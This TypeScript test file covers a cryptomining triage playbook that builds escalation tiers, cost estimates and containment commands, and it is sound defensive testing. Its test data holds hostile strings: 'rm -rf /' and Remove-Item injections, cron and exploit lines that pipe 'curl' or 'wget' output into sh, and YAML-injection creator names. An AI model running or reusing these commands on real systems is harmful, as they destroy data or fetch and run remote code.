import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'yaml';
import { an0745Finding, containerEvidence, DIGEST } from '../../test/support/an0745-finding.js';
import { approvalOf, containerApprovalOf } from '../model/container-policy.js';
import type { ContextMatch, Evidence, Finding } from '../model/finding.js';
import { defaultPolicy } from '../model/policy.js';
import { parsePolicy } from '../run/policy.js';
import { psQuote, shellQuote } from './containment.js';
import { triageFinding } from './playbook.js';

function ev(kind: Evidence['kind'], cls: Evidence['class'], extra: Partial<Evidence> = {}): Evidence {
  return {
    kind,
    class: cls,
    strength: 'strong',
    time: '2026-11-30T10:00:00.000Z',
    source: 'audit.log:7',
    explanation: `${kind} evidence`,
    by: `test:${kind}`,
    entity: 'process:web-01:4130',
    ...extra,
  };
}

function finding(extra: Partial<Finding> = {}): Finding {
  return {
    id: 'cm-1',
    analytic: 'AN0742',
    title: 't',
    attack: ['T1496.001'],
    severity: 'medium',
    confidence: 0.7,
    entity: 'process:web-01:4130',
    related: [],
    host: 'web-01',
    first_seen: '2026-11-30T10:00:00.000Z',
    last_seen: '2026-11-30T11:00:00.000Z',
    legs: ['resource', 'process'],
    summary: '',
    evidence: [ev('sustained-cpu', 'resource'), ev('miner-process', 'process')],
    gaps: [],
    suppressed_by: null,
    facts: { host: 'web-01', pid: 4130, executable: '/opt/app/worker' },
    processes: [
      { entity: 'process:web-01:4130', pid: 4130, executable: '/opt/app/worker', name: 'worker', user: 'app' },
    ],
    usage: { core_hours: 12.5, basis: 'per-process CPU of 1 process', series: [] },
    ...extra,
  };
}

test('quoting keeps a hostile value one inert argument in a POSIX shell and in PowerShell', () => {
  assert.equal(shellQuote(`a'; rm -rf / #`), `'a'\\''; rm -rf / #'`);
  assert.equal(shellQuote('$(id) `id`'), `'$(id) \`id\`'`);
  assert.equal(psQuote(`C:\\x'; Remove-Item C:\\ #`), `'C:\\x''; Remove-Item C:\\ #'`);
});

test('unauthorized high CPU is Tier 2 with that reason; cost uses the policy price', () => {
  const policy = defaultPolicy();
  policy.prices = { currency: 'EUR', coreHour: 0.2, gpuHour: 0.5 };
  const t = triageFinding(finding(), policy);
  assert.equal(t.escalation.tier, 'Tier 2');
  assert.deepEqual(
    t.escalation.reasons.map((r) => r.split(':')[0]),
    ['unauthorized high CPU with no valid explanation'],
  );
  assert.deepEqual(t.cost, {
    core_hours: 12.5,
    price_per_core_hour: 0.2,
    currency: 'EUR',
    amount: 2.5,
    basis: 'per-process CPU of 1 process',
  });
  assert.deepEqual(
    t.questions.map((q) => q.id),
    ['legitimate-process', 'destination-reputation', 'recent-changes', 'vulnerable-exposure'],
  );
  assert.deepEqual(
    t.containment.steps.map((s) => s.phase),
    ['isolate', 'remove', 'preserve', 'patch', 'watch'],
  );
});

test('a Linux plan keeps the memory with coalmine inspect before anything is killed, and checks integrity with coalmine verify', () => {
  const steps = triageFinding(finding(), defaultPolicy()).containment.steps;
  const commands = (phase: string) => steps.find((s) => s.phase === phase)?.commands ?? [];
  const isolate = commands('isolate');
  const inspect = isolate.findIndex((c) => /^coalmine inspect \d+ --dump \S+\/inspect-\d+$/.test(c));
  assert.ok(inspect >= 0, isolate.join('\n'));
  assert.ok(isolate.findIndex((c) => c.startsWith('kill -STOP')) < inspect, 'frozen first, then read');
  const watch = commands('watch').map((c) => c.split('   #')[0]);
  assert.ok(
    watch.some((c) => /^coalmine verify --baseline-out \S+$/.test(c)),
    watch.join('\n'),
  );
  assert.ok(
    watch.some((c) => /^coalmine verify --baseline \S+$/.test(c)),
    watch.join('\n'),
  );
});

test("no escalation condition met: L1 with the playbook's L1 checks; no CPU measured: no cost", () => {
  const t = triageFinding(
    finding({ legs: ['reach'], evidence: [ev('persistence', 'persistence', { strength: 'medium' })], usage: null }),
    defaultPolicy(),
  );
  assert.equal(t.escalation.tier, 'L1');
  assert.match(t.escalation.next_steps[0], /Confirm the abnormal usage of web-01/);
  assert.equal(t.cost, null);
});

test('a suppressed finding stays L1 and says what would have escalated it; the allowlist answers question 1', () => {
  const t = triageFinding(
    finding({
      suppressed_by: {
        list: 'coalmine.yaml:9',
        match: 'executable=/opt/app/worker',
        owner: 'ml-team',
        reason: 'RES-7',
        expires: '2027-01-01',
      },
    }),
    defaultPolicy(),
  );
  assert.equal(t.escalation.tier, 'L1');
  assert.match(t.escalation.reasons[0], /suppressed by allowlist coalmine\.yaml:9 \(owner ml-team: RES-7/);
  assert.match(t.escalation.reasons[1], /^would otherwise escalate: unauthorized high CPU/);
  assert.equal(t.questions[0].status, 'answered');
  assert.match(t.questions[0].answer, /^Yes, per allowlist coalmine\.yaml:9/);
});

test('informational findings never escalate', () => {
  const t = triageFinding(
    finding({
      severity: 'informational',
      analytic: 'crypto-node',
      legs: [],
      evidence: [ev('crypto-p2p', 'network', { strength: 'weak' })],
    }),
    defaultPolicy(),
  );
  assert.equal(t.escalation.tier, 'L1');
  assert.match(t.escalation.reasons[0], /^informational/);
});

test('a hostile cron line is quoted in the plan; one with control characters gets no command', () => {
  const cron = (entry: string): Evidence =>
    ev('persistence', 'persistence', {
      persistence: { mechanism: 'cron', file: '/var/spool/cron/crontabs/www-data', line: 3, entry, user: 'www-data' },
    });
  const hostile = `* * * * * curl x|sh; echo '$(reboot)'`;
  const plan = triageFinding(finding({ evidence: [cron(hostile)] }), defaultPolicy()).containment.steps;
  const remove = plan.find((s) => s.phase === 'remove')?.commands ?? [];
  assert.ok(
    remove.includes(`crontab -u 'www-data' -l | grep -vF -- ${shellQuote(hostile)} | crontab -u 'www-data' -`),
    remove.join('\n'),
  );
  const control = triageFinding(finding({ evidence: [cron('a\u001b[2Jb')] }), defaultPolicy()).containment.steps;
  const removeControl = control.find((s) => s.phase === 'remove')?.commands ?? [];
  assert.ok(
    removeControl.some((c) => /control characters: do this step by hand/.test(c)),
    removeControl.join('\n'),
  );
  assert.ok(!removeControl.some((c) => c.includes('\u001b')));
});

test('the plan stops only the pid that still runs the same file, and never deletes a system program', () => {
  const t = triageFinding(
    finding({ processes: [{ entity: 'process:web-01:9', pid: 9, executable: '/usr/bin/python3', name: 'python3' }] }),
    defaultPolicy(),
  );
  const remove = t.containment.steps.find((s) => s.phase === 'remove')?.commands ?? [];
  assert.deepEqual(remove, [`[ "$(readlink /proc/9/exe)" = '/usr/bin/python3' ] && kill -9 9`]);
});

test('Windows findings get a PowerShell plan; address-only findings a perimeter plan', () => {
  const win = triageFinding(
    finding({
      analytic: 'AN0741',
      facts: { host: 'ws-07', destinations: ['198.51.100.23:3333'] },
      processes: [{ entity: 'process:ws-07:g', pid: 7100, executable: 'C:\\Users\\Public\\svc.exe' }],
      evidence: [
        ev('persistence', 'persistence', {
          persistence: {
            mechanism: 'scheduled-task',
            file: '\\Microsoft\\Windows\\Update\\svc',
            entry: 'C:\\Users\\Public\\svc.exe',
          },
        }),
      ],
    }),
    defaultPolicy(),
  );
  assert.equal(win.containment.platform, 'windows');
  const all = win.containment.steps.flatMap((s) => s.commands).join('\n');
  assert.match(all, /New-NetFirewallRule .* -RemoteAddress 198\.51\.100\.23/);
  assert.match(all, /Stop-Process -Id 7100 -Force/);
  assert.match(all, /Remove-Item -LiteralPath 'C:\\Users\\Public\\svc\.exe' -Force/);
  assert.match(all, /Unregister-ScheduledTask -TaskName 'svc'/);
  const net = triageFinding(
    finding({ entity: 'ip:10.0.0.5', host: '10.0.0.5', processes: [], facts: { destinations: ['198.51.100.7:80'] } }),
    defaultPolicy(),
  );
  assert.equal(net.containment.platform, 'network');
  assert.match(net.containment.steps[0].action, /find the machine holding 10\.0\.0\.5/);
});

test('the allowlist suggestion is valid coalmine.yaml once its placeholders are filled in', () => {
  const t = triageFinding(finding({ facts: { host: 'web-01', sha256: 'ab'.repeat(32) } }), defaultPolicy());
  const doc = parse(t.allowlist_suggestion) as { allowlist: Array<Record<string, unknown>> };
  assert.deepEqual(doc.allowlist[0].match, { hash: 'ab'.repeat(32), executable: '/opt/app/worker', host: 'web-01' });
  const { errors } = parsePolicy('suggested.yaml', t.allowlist_suggestion);
  assert.deepEqual(errors, []);
  assert.match(t.allowlist_suggestion, /expires: 2027-02-28/);
});

test('a plan never blocks the host from itself: its own address among the destinations is left out and named', () => {
  const net = triageFinding(
    finding({
      entity: 'ip:10.0.0.5',
      host: '10.0.0.5',
      processes: [],
      facts: { destinations: ['10.0.0.5:40000', '198.51.100.7:3333'] },
    }),
    defaultPolicy(),
  );
  const netCommands = net.containment.steps.flatMap((s) => s.commands);
  assert.deepEqual(
    netCommands.filter((c) => c.startsWith('iptables')),
    [`iptables -I FORWARD -s '10.0.0.5' -d 198.51.100.7 -j DROP   # on the gateway`],
  );
  assert.ok(netCommands.includes(`# 10.0.0.5 is this host's own address, not a destination: not blocked`));
  const linux = triageFinding(
    finding({ host: '10.0.0.5', facts: { host: '10.0.0.5', destinations: ['10.0.0.5:40000'] } }),
    defaultPolicy(),
  );
  const linuxCommands = linux.containment.steps.flatMap((s) => s.commands);
  assert.deepEqual(
    linuxCommands.filter((c) => c.includes('10.0.0.5')),
    [`# 10.0.0.5 is this host's own address, not a destination: not blocked`],
  );
});

test('an executable that is not a whole absolute path (cut in its quotes, undecoded hex, a bare name) is never put into a command', () => {
  for (const executable of ['"/tmp/kdevtm', '2F746D702F6B646576746', 'kdevtmpfsi', "'/tmp/x"]) {
    const t = triageFinding(
      finding({
        facts: { host: 'web-01', pid: 4130, executable },
        processes: [{ entity: 'process:web-01:4130', pid: 4130, executable, name: 'kdevtmpfsi', user: 'app' }],
      }),
      defaultPolicy(),
    );
    const commands = t.containment.steps.flatMap((s) => s.commands);
    const naming = commands.filter((c) => c.includes(executable) || c.includes(shellQuote(executable)));
    assert.deepEqual(naming, [], executable);
    const remove = t.containment.steps.find((s) => s.phase === 'remove')?.commands ?? [];
    assert.ok(
      remove.some((c) => /not a whole absolute path/.test(c)),
      executable,
    );
    assert.ok(
      remove.some((c) => c.startsWith('kill -9 4130   # check first')),
      executable,
    );
    const win = triageFinding(
      finding({
        analytic: 'AN0741',
        processes: [{ entity: 'process:ws-07:g', pid: 7100, executable: executable.replace('/tmp/', 'C:\\') }],
      }),
      defaultPolicy(),
    );
    const winCommands = win.containment.steps.flatMap((s) => s.commands);
    assert.ok(!winCommands.some((c) => /-LiteralPath|\.Path -eq/.test(c)), executable);
    assert.ok(winCommands.some((c) => c.startsWith('Stop-Process -Id 7100 -Force   # check first')));
  }
});

test('AN0745: an unauthorized deployment is Tier 2 citing the creator and the authorization fact, beside pool and rival-kill reasons', () => {
  const f = an0745Finding();
  f.evidence.push(containerEvidence('competitor-kill', 'process', { explanation: 'pkill -9 kdevtmpfsi' }));
  const t = triageFinding(f, defaultPolicy());
  assert.equal(t.escalation.tier, 'Tier 2');
  assert.deepEqual(
    t.escalation.reasons.map((r) => r.split(':')[0]),
    [
      'unauthorized container deployment',
      'unauthorized high CPU with no valid explanation',
      'connections to known mining addresses',
      'processes terminating each other (competing malware)',
    ],
  );
  assert.equal(
    t.escalation.reasons[0],
    'unauthorized container deployment: DaemonSet kube-system/kube-netmon created by system:anonymous (groups system:unauthenticated) from 203.0.113.45 with python-requests/2.31.0 at 2026-12-01T02:13:05.000Z; written by an unauthenticated identity (system:anonymous); no policy or baseline authorizes that',
  );
  assert.ok(!t.escalation.reasons.some((r) => r.startsWith('unauthorized container or VM deployment')));
  assert.match(t.escalation.next_steps.join(' '), /anonymous requests from 203\.0\.113\.45/);
  // no authorization leg (an approved workload running a miner): no deployment reason, the pool still escalates
  const approved = triageFinding(
    an0745Finding({ legs: ['resource', 'tool'] }, { creator: 'alice@example.com', creator_groups: [] }),
    defaultPolicy(),
  );
  assert.deepEqual(
    approved.escalation.reasons.map((r) => r.split(':')[0]),
    ['connections to known mining addresses'],
  );
});

test('AN0745: the four questions are answered from the workload facts', () => {
  const f = an0745Finding({}, { exec_commands: ['sh -c wget http://x/y'], denied_requests: 2 });
  const [who, image, recent, exposure] = triageFinding(f, defaultPolicy()).questions;
  assert.deepEqual(
    [who.id, image.id, recent.id, exposure.id],
    ['legitimate-process', 'destination-reputation', 'recent-changes', 'vulnerable-exposure'],
  );
  assert.ok([who, image, recent, exposure].every((q) => q.status === 'answered'));
  assert.equal(
    who.answer,
    'DaemonSet kube-system/kube-netmon was created by system:anonymous (groups system:unauthenticated) from 203.0.113.45 with python-requests/2.31.0 at 2026-12-01T02:13:05.000Z; its pods run as service account default; 2 of its API requests were denied. Authorization: written by an unauthenticated identity (system:anonymous); no policy or baseline authorizes that.',
  );
  assert.deepEqual(who.evidence, ['audit/audit.log:14', 'pods.json:4']);
  assert.match(image.answer, /^Known bad: xmrig connected to 198\.51\.100\.23:443/);
  assert.match(
    image.answer,
    new RegExp(`image alpine:3\\.19 \\(repository docker\\.io/library/alpine; digest ${DIGEST}\\)`),
  );
  assert.match(image.answer, /Intel sets: pool-domains falco@18aa700/);
  assert.match(
    recent.answer,
    /created 2026-12-01T02:13:05\.000Z by system:anonymous; 3 replicas; commands run inside it through the API: sh -c wget http:\/\/x\/y; 2 denied requests/,
  );
  assert.match(
    recent.answer,
    /kubectl -n kube-system get deploy,ds,sts,job,cronjob,pod --sort-by=\.metadata\.creationTimestamp/,
  );
  assert.match(
    exposure.answer,
    /^Yes: anonymous access to the API server is enabled: system:anonymous wrote DaemonSet kube-system\/kube-netmon from 203\.0\.113\.45/,
  );
  assert.match(
    exposure.answer,
    /asks for the host: privileged container netmon, hostPID, hostPath \/: a way out of the container onto the nodes/,
  );
});

test('AN0745 without an audit log or intel: each question says what to check, naming the workload', () => {
  const f = an0745Finding(
    {
      legs: ['resource', 'tool'],
      evidence: [containerEvidence('sustained-cpu', 'resource')],
      gaps: ['partial: no Kubernetes audit log for prod/batch: who created spark-1 is unknown'],
    },
    {
      namespace: 'batch',
      workload_kind: 'Job',
      workload_name: 'spark-1',
      destinations: [],
    },
  );
  delete f.facts.creator;
  delete f.facts.creator_groups;
  delete f.facts.creator_source_ips;
  delete f.facts.created;
  const q = triageFinding(f, defaultPolicy()).questions;
  assert.ok(q.every((x) => x.status === 'needs-analyst' && x.evidence.length === 0));
  assert.match(
    q[0].answer,
    /no audit record of its creation was read \(no audit log: see gaps\).*create of Job spark-1 in batch/,
  );
  assert.match(q[1].answer, /matched none of the loaded intel sets/);
  assert.match(q[2].answer, /kubectl -n batch get deploy,ds,sts,job,cronjob,pod/);
  assert.match(q[3].answer, /check Job batch\/spark-1 for privileged, hostPID\/hostNetwork and hostPath mounts/);
});

test('AN0745 cost is the container core-hours at the policy price, with the container CPU basis', () => {
  const policy = defaultPolicy();
  policy.prices = { currency: 'EUR', coreHour: 0.1, gpuHour: 0.5 };
  assert.deepEqual(triageFinding(an0745Finding(), policy).cost, {
    core_hours: 4.55,
    price_per_core_hour: 0.1,
    currency: 'EUR',
    amount: 0.46,
    basis: 'container CPU of 3 containers (cAdvisor/docker counters)',
  });
});

test('AN0745 allowlist suggestion is a containers: section coalmine.yaml accepts, and it approves that workload', () => {
  const load = (f: Finding) => {
    const t = triageFinding(f, defaultPolicy());
    const { policy, errors } = parsePolicy('coalmine.yaml', t.allowlist_suggestion);
    assert.deepEqual(errors, [], t.allowlist_suggestion);
    assert.ok(policy.containers, t.allowlist_suggestion);
    return { text: t.allowlist_suggestion, containers: policy.containers };
  };
  const workload = (f: Finding) => ({
    namespace: f.facts.namespace as string,
    images: f.facts.images as string[],
    digests: (f.facts.image_digests as string[] | undefined) ?? [],
    creators: typeof f.facts.creator === 'string' ? [f.facts.creator] : [],
    labels: {},
    at: Date.parse(f.last_seen),
  });

  // pinned by digest; an anonymous creator is named as never approvable
  const anonymous = load(an0745Finding());
  assert.deepEqual(anonymous.containers.images, [DIGEST]);
  // each entry carries owner and reason placeholders and an expiry, which the policy reads as its terms
  assert.match(
    anonymous.text,
    /\n {4}- image: "sha256:[0-9a-f]{64}"\n {6}owner: "<team or person accountable>"\n {6}reason: "<why it is approved, with a ticket>"\n {6}expires: 2027-03-01\n/,
  );
  assert.deepEqual(anonymous.containers.terms?.images, [
    {
      owner: '<team or person accountable>',
      reason: '<why it is approved, with a ticket>',
      expires: '2027-03-01',
      ref: 'coalmine.yaml:4',
    },
  ]);
  assert.match(anonymous.text, /the creator "system:anonymous" is anonymous: no containers: entry approves it/);
  assert.equal(approvalOf(anonymous.containers, workload(an0745Finding())), undefined);

  // a named creator: the digest approves it; the creator is offered as a commented alternative
  const ci = an0745Finding({}, { creator: 'system:serviceaccount:ci:runner', creator_groups: [] });
  const named = load(ci);
  assert.match(named.text, /# creators:\n {2}# - creator: "system:serviceaccount:ci:runner"\n {2}# {3}owner: /);
  assert.equal(
    approvalOf(named.containers, workload(ci)),
    `containers.images "${DIGEST}" (coalmine.yaml:4; owner <team or person accountable>; reason "<why it is approved, with a ticket>"; expires 2027-03-01)`,
  );
  // past the suggested expiry the same entry approves nothing, and is named
  assert.deepEqual(containerApprovalOf(named.containers, { ...workload(ci), at: Date.parse('2027-03-02T00:00:00Z') }), {
    approved: false,
    expired: `containers.images "${DIGEST}" (coalmine.yaml:4; owner <team or person accountable>; reason "<why it is approved, with a ticket>") expired 2027-03-01, before this write at 2027-03-02T00:00:00.000Z`,
  });

  // no digest: the repository; no image at all: the creator; nothing: a label placeholder (never an empty section)
  const undigested = an0745Finding({}, { image_digests: [], creator: 'bob', creator_groups: [] });
  assert.deepEqual(load(undigested).containers.images, ['docker.io/library/alpine']);
  assert.ok(approvalOf(load(undigested).containers, workload(undigested)));
  const imageless = an0745Finding({}, { image_digests: [], images: [], creator: 'bob', creator_groups: [] });
  assert.deepEqual(load(imageless).containers.creators, ['bob']);
  const bare = an0745Finding({}, { image_digests: [], images: [] });
  delete bare.facts.creator;
  assert.deepEqual(load(bare).containers.labels, { 'change-ticket': 'CHG-*' });
  assert.equal(load(bare).containers.terms?.labels?.['change-ticket']?.expires, '2027-03-01');

  // hostile facts stay inside their YAML strings and comments
  const hostile = an0745Finding(
    {},
    {
      creator: 'eve"\nnamespaces: [kube-system]\n#',
      creator_groups: [],
      workload_name: 'x\ncontainers:\n  namespaces: ["*"]',
    },
  );
  const h = load(hostile);
  assert.deepEqual(h.containers.namespaces, []);
});

function contextMatch(extra: Partial<ContextMatch> = {}): ContextMatch {
  return {
    time: '2026-11-30T08:00:00.000Z',
    host: 'web-01',
    rule_id: 'ctx-1',
    title: 'Java process spawning a shell',
    level: 'high',
    tags: ['attack.initial-access', 'attack.t1190', 'cve.2021-44228'],
    source: 'events.ndjson:3',
    facts: { process: '/bin/sh', command_line: 'sh -c curl http://203.0.113.9/x | sh', parent: '/usr/bin/java' },
    mining: false,
    relative: '2 h before the first evidence',
    reasons: ['exploitation'],
    ...extra,
  };
}

test('question 4 is answered from an exploitation context match, naming the CVE and citing the match; without one it is not', () => {
  const plain = triageFinding(finding(), defaultPolicy());
  const q4 = (t: typeof plain) => t.questions.find((q) => q.id === 'vulnerable-exposure');
  assert.equal(q4(plain)?.status, 'needs-analyst');
  // a credential-access match alone does not answer how it got in
  const creds = contextMatch({ tags: ['attack.t1003.001'], reasons: ['credential-access'], title: 'Mimikatz' });
  assert.equal(q4(triageFinding(finding({ context: [creds] }), defaultPolicy()))?.status, 'needs-analyst');
  const t = triageFinding(finding({ context: [creds, contextMatch()] }), defaultPolicy());
  assert.equal(q4(t)?.status, 'answered');
  assert.match(q4(t)?.answer ?? '', /2 h before the first evidence: Java process spawning a shell .*CVE-2021-44228/);
  assert.deepEqual(q4(t)?.evidence, ['events.ndjson:3']);
  // also when the tree descends from a network service: the detection says more than the process name
  const service = finding({
    context: [contextMatch()],
    processes: [{ entity: 'process:web-01:1', pid: 1, executable: '/usr/bin/java', name: 'java' }],
  });
  assert.match(q4(triageFinding(service, defaultPolicy()))?.answer ?? '', /CVE-2021-44228/);
  // scope steps from credential access, never a change of tier or reasons
  assert.equal(t.escalation.tier, plain.escalation.tier);
  assert.deepEqual(t.escalation.reasons, plain.escalation.reasons);
  assert.ok(t.escalation.next_steps.some((s) => /^Credential access on web-01: Mimikatz/.test(s)));
});

test('AN0745: an exploitation context match answers the exposure question beside the workload facts', () => {
  const f = an0745Finding();
  f.context = [contextMatch({ host: String(f.host) })];
  const q = triageFinding(f, defaultPolicy()).questions.find((x) => x.id === 'vulnerable-exposure');
  assert.equal(q?.status, 'answered');
  assert.match(q?.answer ?? '', /CVE-2021-44228/);
  assert.ok(q?.evidence.includes('events.ndjson:3'));
});
